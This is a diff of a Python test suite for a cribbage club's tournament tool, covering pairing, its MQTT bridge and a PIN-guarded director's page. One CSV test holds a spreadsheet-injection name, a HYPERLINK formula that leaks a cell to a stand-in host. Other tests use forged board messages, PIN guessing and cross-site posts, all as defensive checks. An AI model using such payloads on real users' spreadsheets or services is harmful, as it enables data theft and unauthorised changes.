@@ -11,6 +11,7 @@ import random
 import sqlite3
 import threading
 import time
+import unicodedata
 
 import pytest
 
@@ -164,9 +165,7 @@ def test_an_odd_count_gives_the_bye_to_the_lowest_placed_without_one(tmp_path):
     night = Night(str(tmp_path / "night.sqlite"))
     for name in ("Ann", "Bob", "Cy"):
         night.add(name)
-    with pytest.raises(
-        ClubError, match=r"this round has 1 table: name a board for each \(0 named\)"
-    ):
+    with pytest.raises(ClubError, match=r"^boards: the boards' names, one a table$"):
         night.pair([])
     assert night.rounds_paired() == 0  # nothing paired
     first = night.pair(["b1"])
@@ -307,7 +306,12 @@ def test_results_over_a_broker_that_goes_down_are_recorded_once(tmp_path):
             b.client.is_connected() for b in boards))  # fmt: skip
         tables = bridge.pair(["t1", "t2"])
         assert wait_for(lambda: len(heard) == 2)
-        assert heard["cribbage/oakclub/t1/pairing"] == {"round": 1, "players": list(tables[0][1:])}
+        assert heard["cribbage/oakclub/t1/pairing"] == {
+            "round": 1,
+            "players": list(tables[0][1:]),
+            "target": 121,
+            "games": 1,
+        }
         results = [
             {"id": "%s-7c1e-1" % board, "round": 1, "board": board, "players": [a, b],
              "scores": [121, 88]}
@@ -346,7 +350,7 @@ def test_the_standings_page_and_the_directors_changes_with_the_pin(tmp_path):
     night = Night(str(tmp_path / "night.sqlite"))
     bridge = Bridge(night, "oakclub", "127.0.0.1", free_port())  # no broker: the page alone
     port = free_port()
-    server = make_page_server(bridge, "127.0.0.1", port, "4711")
+    server = make_page_server(bridge, "127.0.0.1", port, "47114711")
     threading.Thread(target=server.serve_forever, daemon=True).start()
     base = "http://127.0.0.1:%d" % port
 
@@ -365,26 +369,28 @@ def test_the_standings_page_and_the_directors_changes_with_the_pin(tmp_path):
         assert post("/api/players", {"pin": "1234", "add": ["Ann", "Bob"]}) == (
             403, {"error": "the director's PIN is wrong"})  # fmt: skip
         assert night.standings() == []  # nothing changed
-        status, _ = post("/api/players", {"pin": "4711", "add": ["Ann", "Bob", "Cy"]})
+        status, _ = post("/api/players", {"pin": "47114711", "add": ["Ann", "Bob", "Cy"]})
         assert status == 200
-        status, paired = post("/api/pair", {"pin": "4711", "boards": ["t1"]})
+        status, paired = post("/api/pair", {"pin": "47114711", "boards": ["t1"]})
         assert status == 200 and paired["tables"][-1] == ["bye", "Cy", None]
         night.record({"id": "t1-a-1", "round": 1, "board": "t1", "players": ["Ann", "Bob"],
                       "scores": [121, 101]})  # fmt: skip
-        assert post("/api/correct", {"pin": "4711", "id": "t1-a-1", "scores": [121, 131],
+        assert post("/api/correct", {"pin": "47114711", "id": "t1-a-1", "scores": [121, 131],
                                      "reason": "x"}) == (
             400, {"error": "a finished game has one side at 121 and the other under it:"
                            " 121-131"})  # fmt: skip
         status, changed = post(
             "/api/correct",
-            {"pin": "4711", "id": "t1-a-1", "scores": [121, 85], "reason": "Bob's hand was 8"},
+            {"pin": "47114711", "id": "t1-a-1", "scores": [121, 85], "reason": "Bob's hand was 8"},
         )
         assert status == 200 and changed["standings"][0] == [1, "Ann", 3, 1, 36, 1]
         with urllib.request.urlopen(base + "/", timeout=5) as answer:
             html = answer.read().decode()
         assert "<h1>oakclub: standings after 1 games</h1>" in html
         assert "<tr><td>1</td><td>Ann</td><td>3</td><td>1</td><td>+36</td><td>1</td></tr>" in html
-        assert "<li>bye: Cy has the bye</li>" in html and "<li>t1: Ann v Bob</li>" in html
+        assert "<li>bye: Cy has the bye</li>" in html
+        assert "<li>t1: Ann v Bob: reported 121-101 (result t1-a-1)</li>" in html
+        assert "<li>round 1, t1: Ann 121, Bob 85 (result t1-a-1)</li>" in html  # corrected
         with urllib.request.urlopen(base + "/standings.csv", timeout=5) as answer:
             assert answer.read().decode().splitlines()[1] == "1,Ann,3,1,36,1"
     finally:
@@ -407,13 +413,13 @@ def test_the_standings_page_reads_on_a_phone_and_a_projector(tmp_path, browser):
         night.add(name)
     rng = random.Random(4)
     for round_number in range(1, 4):
-        for board, a, b in night.pair(["table %d" % i for i in range(1, 13)]):
+        for board, a, b in night.pair(["table-%d" % i for i in range(1, 13)]):
             night.record({"id": "%s-%d" % (board, round_number), "round": round_number,
                           "board": board, "players": [a, b],
                           "scores": list(random_score(rng))})  # fmt: skip
     bridge = Bridge(night, "Oak Street club", "127.0.0.1", free_port())
     port = free_port()
-    server = make_page_server(bridge, "127.0.0.1", port, "4711")
+    server = make_page_server(bridge, "127.0.0.1", port, "47114711")
     threading.Thread(target=server.serve_forever, daemon=True).start()
     with open(AXE_SCRIPT, encoding="utf-8") as source:
         engine = source.read()
@@ -444,10 +450,10 @@ def test_the_standings_page_reads_on_a_phone_and_a_projector(tmp_path, browser):
         # A result arrives: the open page shows it within its 5 s, without a reload.
         browser.execute_script("window.notReloaded = true")
         with bridge.lock:
-            _, a, b = night.pair(["table 1", "table 2", "table 3", "table 4", "table 5",
-                                  "table 6", "table 7", "table 8", "table 9", "table 10",
-                                  "table 11", "table 12"])[0]  # fmt: skip
-            night.record({"id": "late", "round": 4, "board": "table 1",
+            _, a, b = night.pair(["table-1", "table-2", "table-3", "table-4", "table-5",
+                                  "table-6", "table-7", "table-8", "table-9", "table-10",
+                                  "table-11", "table-12"])[0]  # fmt: skip
+            night.record({"id": "late", "round": 4, "board": "table-1",
                           "players": [a, b], "scores": [121, 70]})  # fmt: skip
         heading = "return document.querySelector('h1').textContent"
         assert wait_for(
@@ -484,7 +490,7 @@ def test_a_hostile_board_forges_nothing_and_stops_nothing_while_eleven_play(tmp_
     bridge = Bridge(night, "oakclub", "127.0.0.1", broker.port, accounts["club"])
     boards = {name: StandInBoard(broker, "oakclub", name, passwords[name])
               for name in names_of_boards}  # fmt: skip
-    server = make_page_server(bridge, "127.0.0.1", 0, "4711")  # any free port, bound at once
+    server = make_page_server(bridge, "127.0.0.1", 0, "47114711")  # any free port, bound at once
     page_port = server.server_address[1]
     threading.Thread(target=server.serve_forever, daemon=True).start()
     rng = random.Random(39)
@@ -522,7 +528,7 @@ def test_a_hostile_board_forges_nothing_and_stops_nothing_while_eleven_play(tmp_
                 "[" * 400 + "]" * 400,
                 json.dumps(dict(forged, id="x5", board="t2", players=[a2, b2])),  # t2's table
                 json.dumps(dict(forged, id="x6", players=["Mallory", b1])),
-                json.dumps(dict(forged, id="x7", round=7)),  # a round never paired
+                json.dumps(dict(forged, id="x7-%d" % number, round=7)),  # a round never paired
                 json.dumps(dict(forged, id="x8", players=[a1, a1])),
                 json.dumps(dict(forged, id="x9", target=10**15)),
                 json.dumps(dict(forged, id="x10", scores=[121.0, 60])),
@@ -581,7 +587,7 @@ def test_a_hostile_board_forges_nothing_and_stops_nothing_while_eleven_play(tmp_
             viewer.loop_stop()
         a2, b2 = seated["t2"]
         assert json.loads(retained["cribbage/oakclub/t2/pairing"]) == {
-            "round": 2, "players": [a2, b2]}  # fmt: skip
+            "round": 2, "players": [a2, b2], "target": 121, "games": 1}  # fmt: skip
         assert json.loads(retained["cribbage/oakclub/standings"]) == [
             list(row) for row in night.standings()
         ]
@@ -631,18 +637,19 @@ def expected_refusals(number, seated):
 
 def test_a_name_a_spreadsheet_would_run_is_written_as_text_in_the_csv(tmp_path):
     night = Night(str(tmp_path / "night.sqlite"))
-    for name in ('=HYPERLINK("http://x.example/?"&A1,"Ann")', "+Bob", "-Cy", "@Di", "Ed"):
+    for name in ('=HYPERLINK("http://x.example/?"&A1)', "+Bob", "-Cy", "@Di", "Ed"):
         night.add(name)
     rows = list(csv.reader(io.StringIO(night.csv())))
     assert sorted(row[1] for row in rows[1:]) == [
-        "'+Bob", "'-Cy", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Ann\")", "'@Di", "Ed",
+        "'+Bob", "'-Cy", "'=HYPERLINK(\"http://x.example/?\"&A1)", "'@Di", "Ed",
     ]  # fmt: skip
     assert [row[4] for row in rows[1:]] == ["0"] * 5  # numbers stay numbers
 
 
 def test_the_directors_door_bounds_guesses_and_takes_no_change_from_another_site(tmp_path):
-    """Wrong PINs: 10 a minute from one address, 60 in all; an address that sent none is
-    never refused, so the director is not slowed. Another site's page (a form's text/plain,
+    """Wrong PINs: 10 a minute from one address, 60 a minute from all together (past that
+    every address waits but one that gave the right PIN tonight, so the director signed in
+    is not slowed). Another site's page (a form's text/plain,
     its Origin) and another name (DNS rebinding) change nothing."""
     import http.client
 
@@ -659,16 +666,21 @@ def test_the_directors_door_bounds_guesses_and_takes_no_change_from_another_site
     for address in range(2, 7):  # five more addresses: 60 wrong in all this minute
         for guess in range(10):
             guard.check("10.0.1.%d" % address, "%08d" % guess)
-    assert guard.check("10.0.2.1", "00000000") == (403, "the director's PIN is wrong")
-    assert guard.check("10.0.2.1", "20261204")[0] == 429  # past 60 in all, after a wrong one
-    assert guard.check("10.0.0.1", "20261204") is None  # never a wrong one: never slowed
+    # Past 60 in all, a fresh address is not let guess (300 addresses are not 300 guesses),
+    # not even with the right PIN; the director, signed in from 10.0.0.1, is let in.
+    assert guard.check("10.0.2.1", "00000000") == (429, "too many wrong PINs: try again in 60 s")
+    assert guard.check("10.0.2.1", "20261204")[0] == 429
+    for address in range(300):
+        assert guard.check("10.0.3.%d" % address, "%08d" % address)[0] == 429
+    assert sum(guard.wrong.values()) == 60  # no guess past the 60 was even compared
+    assert guard.check("10.0.0.1", "20261204") is None
     clock[0] = 61.0  # the next minute: counted afresh
     assert guard.check("10.0.0.9", "20261204") is None
 
     night = Night(str(tmp_path / "night.sqlite"))
     bridge = Bridge(night, "oakclub", "127.0.0.1", free_port())
     port = free_port()
-    server = make_page_server(bridge, "127.0.0.1", port, "4711")
+    server = make_page_server(bridge, "127.0.0.1", port, "47114711")
     threading.Thread(target=server.serve_forever, daemon=True).start()
 
     def post(body, headers):
@@ -681,7 +693,7 @@ def test_the_directors_door_bounds_guesses_and_takes_no_change_from_another_site
             connection.close()
 
     here = "127.0.0.1:%d" % port
-    change = json.dumps({"pin": "4711", "add": ["Mallory"]})
+    change = json.dumps({"pin": "47114711", "add": ["Mallory"]})
     try:
         assert post(change, {"Content-Type": "text/plain"}) == (
             415, {"error": "the director's changes are sent as application/json"})  # fmt: skip
@@ -718,11 +730,11 @@ def test_a_callback_that_fails_leaves_the_clubs_recording_running(tmp_path):
     bridge = Bridge(night, "oakclub", "127.0.0.1", broker.port)
     failed = []
 
-    def failing(number, tables):
-        failed.append(number)
+    def failing():
+        failed.append(True)
         raise sqlite3.OperationalError("database is locked")
 
-    bridge._publish_pairings = failing
+    bridge.publish_changes = failing
     board = StandInBoard(broker, "oakclub", "t1")
     try:
         bridge.start()
@@ -762,6 +774,223 @@ def test_the_directors_commands_refuse_too_few_or_wrong_words_in_words(tmp_path,
         club.main([str(other), "standing"])
     assert stopped.value.code == 2 and not other.exists()
     assert capsys.readouterr().err.endswith(
-        "error: unknown command 'standing': add, leave, pair, boards, revoke, result, correct,"
-        " standings, csv, serve\n"
+        "error: unknown command 'standing': add, leave, remove, pair, boards, revoke, result,"
+        " correct, results, standings, csv, serve\n"
     )
+
+
+# -- The director's input, any of it ----------------------------------------------------------
+
+PIN = "47114711"
+
+
+def _json_values():
+    from hypothesis import strategies as st
+
+    scalars = (
+        st.none() | st.booleans() | st.integers(-(10**12), 10**12)
+        | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=45)
+    )  # fmt: skip
+    return st.recursive(
+        scalars,
+        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner,
+                                                                     max_size=4),
+        max_leaves=8,
+    )  # fmt: skip
+
+
+def _snapshot(night):
+    return "\n".join(night.db.iterdump())
+
+
+def test_the_directors_page_answers_any_body_in_words_and_a_refusal_changes_nothing(tmp_path):
+    """Any JSON to the director's three changes (names, boards, scores, ids of every type,
+    near-right ones among them: a string for a list, "121" or 100.9 for a score, a board
+    named twice, bye, "t 2"): answered 200 or 400 with the words, never a traceback, and a
+    refused one leaves the night's file as it was."""
+    import http.client
+
+    from hypothesis import HealthCheck, given, settings
+    from hypothesis import strategies as st
+
+    from club_night.bridge import Bridge
+    from club_night.page import make_page_server
+
+    night = Night(str(tmp_path / "night.sqlite"))
+    for name in ("Ann", "Bob", "Cy", "Di"):
+        night.add(name)
+    night.seat(1, "t1", "Ann", "Bob")
+    night.record({"id": "t1-a-1", "round": 1, "board": "t1", "players": ["Ann", "Bob"],
+                  "scores": [121, 100]})  # fmt: skip
+    bridge = Bridge(night, "oakclub", "127.0.0.1", 9)  # no broker: the page alone
+    server = make_page_server(bridge, "127.0.0.1", 0, PIN)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    port = server.server_address[1]
+    anything = _json_values()
+    near = {
+        "add": st.lists(st.text(max_size=45) | st.sampled_from(["Gus", "Ann", ""]), max_size=3)
+        | st.text(max_size=5),
+        "leave": st.sampled_from(["Ann", "Zed", ""]) | anything,
+        "boards": st.lists(st.sampled_from(["t1", "t2", "bye", "t 2", "", "Ω"]), max_size=3)
+        | anything,
+        "id": st.sampled_from(["t1-a-1", "nope"]) | anything,
+        "scores": st.lists(st.integers(-5, 200) | st.sampled_from(["121", 100.9, True]),
+                           max_size=3) | anything,
+        "reason": st.sampled_from(["Bob's hand was 8", " "]) | anything,
+        "other": anything,
+    }  # fmt: skip
+    # Every object carries the PIN (a wrong one is the door's test's), so each reaches the
+    # change it names; anything else is no object at all.
+    bodies = st.fixed_dictionaries({"pin": st.just(PIN)}, optional=near) | anything.filter(
+        lambda value: type(value) is not dict
+    )
+
+    @settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
+    @given(path=st.sampled_from(["/api/players", "/api/pair", "/api/correct"]), body=bodies)
+    def posted(path, body):
+        with bridge.lock:
+            before = _snapshot(night)
+            listed = {row[1] for row in night.standings()}
+            corrections = night.db.execute("SELECT COUNT(*) FROM corrections").fetchone()[0]
+        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
+        try:
+            connection.request("POST", path, json.dumps(body),
+                               {"Content-Type": "application/json"})  # fmt: skip
+            answer = connection.getresponse()
+            status, said = answer.status, json.loads(answer.read())
+        finally:
+            connection.close()
+        if status != 200:
+            assert status == 400 and type(said["error"]) is str and said["error"]
+            with bridge.lock:
+                assert _snapshot(night) == before, (path, body, said)
+            return
+        # Taken: exactly what was asked, of the types asked for (a string is no list of
+        # names, "121" and 100.9 no scores).
+        with bridge.lock:
+            now = {row[1] for row in night.standings()}
+            made = night.db.execute("SELECT COUNT(*) FROM corrections").fetchone()[0]
+        if path == "/api/players":
+            assert type(body.get("add", [])) is list
+            added = {unicodedata.normalize("NFC", name.strip()) for name in body.get("add", [])}
+            assert now - listed == added - listed
+        elif path == "/api/correct":
+            assert [type(score) for score in body["scores"]] == [int, int]
+            assert made == corrections + 1
+
+    try:
+        posted()
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_the_directors_commands_answer_any_words_in_words_and_a_refusal_changes_nothing(
+    tmp_path, capsys
+):
+    """Any words to any command but serve: an exit status (0, 1 with the words, 2 for a
+    usage), never a traceback, and a refused command leaves the night's file as it was."""
+    from hypothesis import HealthCheck, given, settings
+    from hypothesis import strategies as st
+
+    import club
+
+    path = str(tmp_path / "night.sqlite")
+    night = Night(path)
+    for name in ("Ann", "Bob", "Cy", "Di"):
+        night.add(name)
+    night.board_password("t1")
+    word = st.text(max_size=12) | st.sampled_from(
+        ["t1", "t2", "bye", "Ann", "121", "100", "1", "-1", "--pin", "-h", "x" * 50]
+    )  # fmt: skip
+    commands = [command for command in club.COMMANDS if command != "serve"]
+
+    @settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
+    @given(command=st.sampled_from(commands), words=st.lists(word, max_size=8))
+    def typed(command, words):
+        before = _snapshot(night)
+        try:
+            status = club.main([path, command, *words])
+        except SystemExit as stopped:
+            status = stopped.code
+        said = capsys.readouterr()
+        assert status in (0, 1, 2), (command, words, status)
+        if status:
+            assert said.err.strip() and "Traceback" not in said.err
+            assert _snapshot(night) == before, (command, words)
+
+    typed()
+
+
+def test_pairing_boards_are_checked_in_words_before_anything_is_paired(tmp_path):
+    night = Night(str(tmp_path / "night.sqlite"))
+    for name in ("Ann", "Bob", "Cy", "Di"):
+        night.add(name)
+    night.board_password("t1")  # the night keeps the boards' accounts: t1's only
+    for boards, words in (
+        (["t1", "t1"], "board t1 is named twice: one table a board"),
+        (["t1", "bye"], "a board's name is 1 to 24 letters, digits, - or _, not bye: 'bye'"),
+        (["t1", "t 2"], "a board's name is 1 to 24 letters, digits, - or _, not bye: 't 2'"),
+        (["t1", ""], "a board's name is 1 to 24 letters, digits, - or _, not bye: ''"),
+        (["t1", "t9"], "t9 has no account tonight (the boards command makes one)"),
+        ("t1", "boards: the boards' names, one a table"),
+    ):
+        with pytest.raises(ClubError) as refused:
+            night.pair(boards)
+        assert str(refused.value) == words
+    assert night.rounds_paired() == 0
+
+
+def test_each_command_says_its_words_and_serve_its_options_before_a_file_is_made(tmp_path, capsys):
+    import club
+
+    night = str(tmp_path / "night.sqlite")
+    assert club.main([night, "result", "--help"]) == 0
+    assert capsys.readouterr().out.startswith(
+        "usage: crib-club NIGHT result ID ROUND BOARD PLAYER_A PLAYER_B SCORE_A SCORE_B:"
+    )
+    assert club.main([night, "serve", "--help"]) == 0
+    said = capsys.readouterr().out
+    assert said.startswith("usage: crib-club NIGHT serve ") and "--own-broker" in said
+    assert "--pin PIN" in said and "8 characters at least" in said
+    assert club.main([night, "serve", "--pin", "1234"]) == 2
+    assert capsys.readouterr().err == (
+        "--pin: 8 to 64 letters or digits: a shorter PIN is guessed in a night\n"
+    )
+    import os
+
+    assert not os.path.exists(night)  # nothing made for a question or a refusal
+
+
+def test_serve_says_in_words_that_its_pages_port_is_taken(tmp_path):
+    import socket
+    import subprocess
+    import sys
+
+    from where import ROOT
+
+    with socket.socket() as taken:
+        taken.bind(("127.0.0.1", 0))
+        taken.listen()
+        port = taken.getsockname()[1]
+        done = subprocess.run(
+            [sys.executable, ROOT + "/tools/director/club.py", str(tmp_path / "night.sqlite"),
+             "serve", "--broker", "127.0.0.1:9", "--host", "127.0.0.1", "--port", str(port),
+             "--pin", "47114711"],
+            capture_output=True, text=True, timeout=30,
+        )  # fmt: skip
+    assert done.returncode == 1
+    assert done.stderr.startswith("the page cannot listen on 127.0.0.1:%d (" % port)
+    assert done.stderr.endswith("): give another --port\n") and "Traceback" not in done.stderr
+
+
+def test_serve_prints_this_computers_addresses_not_every_interfaces():
+    import ipaddress
+
+    from club_night.serving import own_addresses, reached_at
+
+    found = own_addresses()
+    assert found and all(ipaddress.ip_address(address).version == 4 for address in found)
+    assert "0.0.0.0" not in found
+    assert reached_at("0.0.0.0", 1883) == " or ".join("%s:1883" % a for a in found)
+    assert reached_at("127.0.0.1", 1884) == "127.0.0.1:1884"
